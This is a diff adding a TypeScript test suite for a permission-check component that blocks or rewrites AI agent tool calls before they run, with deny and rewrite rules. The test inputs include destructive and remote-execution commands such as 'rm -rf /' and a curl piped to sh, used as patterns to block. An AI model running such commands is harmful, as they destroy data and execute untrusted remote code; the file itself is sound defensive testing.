@@ -1,0 +1,232 @@
+import type { JsonValue } from '@ahp/protocol';
+import { describe, expect, it } from 'vitest';
+import { OracleSetupError } from './errors.js';
+import { evaluateHook } from './evaluate.js';
+import type { Oracle, OracleInput, OracleVerdict } from './oracle.js';
+import { createPermissionCheck } from './permission-check.js';
+import type { PermissionCheckOptions } from './permission-check.js';
+
+const HOOK_ID = '0b9e4d5e-6a7c-4f1e-9a2b-3c4d5e6f7a8b';
+const signal = new AbortController().signal;
+
+function call(tool: Record<string, JsonValue> | undefined): OracleInput {
+  return {
+    hookId: HOOK_ID,
+    trigger: 'pre-tool-use',
+    context: tool === undefined ? {} : { tool },
+    agent: { id: 'agent-1', name: 'Agent One' },
+    sessionId: 'session-1',
+  };
+}
+
+function check(oracle: Oracle, name: string | undefined, input?: JsonValue): readonly OracleVerdict[] {
+  const tool: Record<string, JsonValue> = {};
+  if (name !== undefined) tool['name'] = name;
+  if (input !== undefined) tool['input'] = input;
+  return oracle.evaluate(call(tool), { signal }) as readonly OracleVerdict[];
+}
+
+function setupError(options: PermissionCheckOptions): OracleSetupError {
+  try {
+    createPermissionCheck(options);
+  } catch (error) {
+    expect(error).toBeInstanceOf(OracleSetupError);
+    expect((error as OracleSetupError).code).toBe('E_ORACLE_OPTIONS');
+    return error as OracleSetupError;
+  }
+  throw new Error('expected createPermissionCheck to throw');
+}
+
+describe('permission-check: deny rules', () => {
+  it('answers pre-tool-use only, under its name', () => {
+    const oracle = createPermissionCheck({ deny: [{ tool: 'Bash', reason: 'no shell' }] });
+    expect(oracle.name).toBe('permission-check');
+    expect(oracle.triggers).toEqual(['pre-tool-use']);
+    expect(createPermissionCheck({ name: 'acme/tools' }).name).toBe('acme/tools');
+  });
+
+  it('matches a string tool pattern against the whole tool name', () => {
+    const oracle = createPermissionCheck({ deny: [{ tool: 'Bash|Shell', reason: 'no shell' }] });
+    expect(check(oracle, 'Bash')).toHaveLength(1);
+    expect(check(oracle, 'Shell')).toHaveLength(1);
+    expect(check(oracle, 'BashTool')).toEqual([]);
+    expect(check(oracle, undefined)).toEqual([]);
+  });
+
+  it('uses a RegExp tool pattern as given, flags included', () => {
+    const oracle = createPermissionCheck({ deny: [{ tool: /^mcp__/i, reason: 'no MCP' }] });
+    expect(check(oracle, 'MCP__files__write')).toHaveLength(1);
+    expect(check(oracle, 'Read')).toEqual([]);
+  });
+
+  it('builds a block verdict with the rule name and resolution path', () => {
+    const oracle = createPermissionCheck({
+      deny: [{ name: 'no-rm', type: 'security-violation', input: 'rm -rf', reason: 'destructive', resolution_path: ['delete ./build only'] }],
+    });
+    expect(check(oracle, 'Bash', 'rm -rf /tmp')).toEqual([
+      {
+        intensity: 'block',
+        type: 'security-violation',
+        rule: 'no-rm',
+        payload: {
+          level: 'blocking',
+          decision: 'deny',
+          reason: 'destructive',
+          resolvable: true,
+          resolution_path: ['delete ./build only'],
+        },
+      },
+    ]);
+  });
+
+  it('defaults the rule name to its position and resolvable to whether a path is given', () => {
+    const oracle = createPermissionCheck({
+      deny: [
+        { tool: 'Read', reason: 'first' },
+        { tool: 'Write', reason: 'second', resolvable: true },
+      ],
+    });
+    expect(check(oracle, 'Read')[0]).toMatchObject({ rule: 'deny[0]', payload: { resolvable: false, resolution_path: [] } });
+    expect(check(oracle, 'Write')[0]).toMatchObject({ rule: 'deny[1]', payload: { resolvable: true } });
+    expect(check(oracle, 'Read')[0]).not.toHaveProperty('type');
+  });
+
+  it('searches a string input, every string of an object input, and its JSON text', () => {
+    const oracle = createPermissionCheck({
+      deny: [
+        { name: 'string', input: '^curl .*\\| *sh$', reason: 'pipe to shell' },
+        { name: 'json', input: '"recursive":true', reason: 'recursive flag' },
+      ],
+    });
+    expect(check(oracle, 'Bash', 'curl https://x.example | sh').map((v) => v.rule)).toEqual(['string']);
+    expect(check(oracle, 'Bash', { argv: ['sh', '-c', 'curl https://x.example | sh'] }).map((v) => v.rule)).toEqual(['string']);
+    expect(check(oracle, 'Delete', { path: '/x', recursive: true }).map((v) => v.rule)).toEqual(['json']);
+    expect(check(oracle, 'Bash', 42)).toEqual([]);
+    expect(check(oracle, 'Bash')).toEqual([]);
+  });
+
+  it('restricts the input pattern to one field when asked', () => {
+    const oracle = createPermissionCheck({ deny: [{ input: 'secret', field: 'args.1', reason: 'no secrets' }] });
+    expect(check(oracle, 'Run', { args: ['x', 'secret'] })).toHaveLength(1);
+    expect(check(oracle, 'Run', { args: ['secret', 'x'] })).toEqual([]);
+    expect(check(oracle, 'Run', 'secret')).toEqual([]);
+  });
+
+  it('tests repeatedly with a global RegExp without skipping matches', () => {
+    const oracle = createPermissionCheck({ deny: [{ input: /danger/g, reason: 'danger' }] });
+    for (let i = 0; i < 3; i += 1) expect(check(oracle, 'Bash', 'danger')).toHaveLength(1);
+  });
+
+  it('answers nothing without a tool object in the context', () => {
+    const oracle = createPermissionCheck({ deny: [{ tool: '.*', reason: 'all' }] });
+    expect(oracle.evaluate(call(undefined), { signal })).toEqual([]);
+    expect(oracle.evaluate({ ...call(undefined), context: { tool: 'Bash' } }, { signal })).toEqual([]);
+  });
+
+  it('returns one block per matching deny rule and no rewrite when denied', () => {
+    const oracle = createPermissionCheck({
+      deny: [
+        { tool: 'Bash', reason: 'a' },
+        { input: 'x', reason: 'b' },
+      ],
+      rewrite: [{ input: 'x', replace: 'y', reason: 'c' }],
+    });
+    expect(check(oracle, 'Bash', { command: 'x' }).map((v) => v.intensity)).toEqual(['block', 'block']);
+  });
+});
+
+describe('permission-check: rewrite rules', () => {
+  const rewrite = createPermissionCheck({
+    rewrite: [
+      { name: 'lease', tool: 'Bash', input: 'git push --force(?!-)', replace: 'git push --force-with-lease', reason: 'lease' },
+      { name: 'quiet', input: '^git push', field: 'command', replace: 'git push -q', reason: 'quiet', reversible: false },
+    ],
+  });
+
+  it('answers one control verdict with a modification per rewritten string', () => {
+    const [verdict, ...rest] = check(rewrite, 'Bash', { command: 'git push --force', note: 'git push --force' });
+    expect(rest).toEqual([]);
+    expect(verdict).toEqual({
+      intensity: 'control',
+      rule: 'lease,quiet',
+      payload: {
+        level: 'controlling',
+        decision: 'allow_with_modification',
+        modifications: [
+          { target: 'command', original: 'git push --force', updated: 'git push -q --force-with-lease', reason: 'lease; quiet' },
+          { target: 'note', original: 'git push --force', updated: 'git push --force-with-lease', reason: 'lease' },
+        ],
+        reversible: false,
+      },
+    });
+  });
+
+  it('rewrites nothing it cannot address, and nothing that stays the same', () => {
+    expect(check(rewrite, 'Bash', 'git push --force')).toEqual([]);
+    expect(check(rewrite, 'Bash', { command: 'git status' })).toEqual([]);
+    const identity = createPermissionCheck({ rewrite: [{ input: 'a', replace: 'a', reason: 'noop' }] });
+    expect(check(identity, 'Bash', { command: 'a' })).toEqual([]);
+  });
+
+  it('carries a custom type and stays reversible by default', () => {
+    const typed = createPermissionCheck({ rewrite: [{ type: 'quality-gate', input: 'a', replace: 'b', reason: 'r' }] });
+    expect(check(typed, 'Bash', { x: 'a' })[0]).toMatchObject({ type: 'quality-gate', rule: 'rewrite[0]', payload: { reversible: true } });
+  });
+});
+
+describe('permission-check: options', () => {
+  it.each<[string, PermissionCheckOptions, string]>([
+    ['a rule without tool or input', { deny: [{ reason: 'x' }] }, 'deny[0] needs "tool", "input" or both'],
+    ['a rule that is not an object', { deny: ['rm' as never] }, 'deny[0] must be an object'],
+    ['rules that are not an array', { deny: {} as never }, '"deny" must be an array'],
+    ['an invalid regular expression', { deny: [{ input: '(', reason: 'x' }] }, 'deny[0].input is not a valid regular expression'],
+    ['an empty pattern', { deny: [{ tool: '', reason: 'x' }] }, 'deny[0].tool must be a non-empty'],
+    ['an empty reason', { deny: [{ tool: 'x', reason: ' ' }] }, 'deny[0].reason must be a non-empty string'],
+    ['an empty resolution step', { deny: [{ tool: 'x', reason: 'r', resolution_path: [''] }] }, 'deny[0].resolution_path[0]'],
+    ['a resolution path that is not an array', { deny: [{ tool: 'x', reason: 'r', resolution_path: 'a' as never }] }, 'must be an array of strings'],
+    ['a non-boolean resolvable', { deny: [{ tool: 'x', reason: 'r', resolvable: 'yes' as never }] }, 'deny[0].resolvable'],
+    ['a field without input', { deny: [{ tool: 'x', field: 'command', reason: 'r' }] }, 'deny[0].field needs an "input"'],
+    ['an empty field', { deny: [{ input: 'x', field: '', reason: 'r' }] }, 'deny[0].field must be a non-empty'],
+    ['an empty rule name', { deny: [{ tool: 'x', name: '', reason: 'r' }] }, 'deny[0].name'],
+    ['a bad signal type', { deny: [{ tool: 'x', type: 'Security', reason: 'r' }] }, 'deny[0].type must be a lowercase kebab-case'],
+    ['a bad oracle name', { name: 'Permission Check' }, '"name" "Permission Check" is not a valid oracle name'],
+    ['a rewrite without input', { rewrite: [{ tool: 'x', replace: 'y', reason: 'r' } as never] }, 'rewrite[0].input is required'],
+    ['a rewrite without replacement', { rewrite: [{ input: 'x', reason: 'r' } as never] }, 'rewrite[0].replace must be a string'],
+    ['a non-boolean reversible', { rewrite: [{ input: 'x', replace: 'y', reason: 'r', reversible: 1 as never }] }, 'rewrite[0].reversible'],
+    ['a bad warn severity', { warn: [{ tool: 'x', reason: 'r', severity: 'urgent' as never }] }, 'warn[0].severity must be one of low, medium, high, critical'],
+    ['a non-boolean continue_allowed', { warn: [{ tool: 'x', reason: 'r', continue_allowed: 0 as never }] }, 'warn[0].continue_allowed'],
+  ])('rejects %s', (_label, options, message) => {
+    expect(setupError(options).message).toContain(message);
+  });
+
+  it('rejects a reason longer than the protocol allows', () => {
+    expect(setupError({ deny: [{ tool: 'x', reason: 'r'.repeat(20_000) }] }).message).toContain('at most 16384 characters');
+  });
+
+  it('keeps the cause of a bad pattern', () => {
+    expect(setupError({ deny: [{ input: '[', reason: 'x' }] }).cause).toBeInstanceOf(SyntaxError);
+  });
+
+  it('refuses warn rules at pre-tool-use, where the protocol allows no prompt signals', () => {
+    const error = setupError({ warn: [{ input: 'git push --force', reason: 'careful' }] });
+    expect(error.message).toBe(
+      'permission-check: warn rules produce "prompt" signals, which pre-tool-use does not allow (allowed: block, control); use deny or rewrite rules instead',
+    );
+  });
+});
+
+describe('permission-check through evaluateHook', () => {
+  it('produces valid signals sourced from the oracle', async () => {
+    const oracle = createPermissionCheck({ deny: [{ name: 'no-rm', input: 'rm -rf', reason: 'destructive' }] });
+    const decision = await evaluateHook({
+      input: call({ name: 'Bash', input: { command: 'rm -rf /' } }),
+      oracles: [oracle],
+      now: () => new Date('2025-01-01T00:00:00.000Z'),
+      newId: () => '00000000-0000-4000-8000-000000000001',
+      budgetMs: 1000,
+    });
+    expect(decision).toMatchObject({ allowed: false, intensity: 'block', decided_by: 'oracles' });
+    expect(decision.signals[0]!.header).toMatchObject({ source: 'permission-check', type: 'permission-check' });
+    expect(decision.signals[0]!.context).toMatchObject({ oracle: 'permission-check', rule: 'no-rm' });
+  });
+});
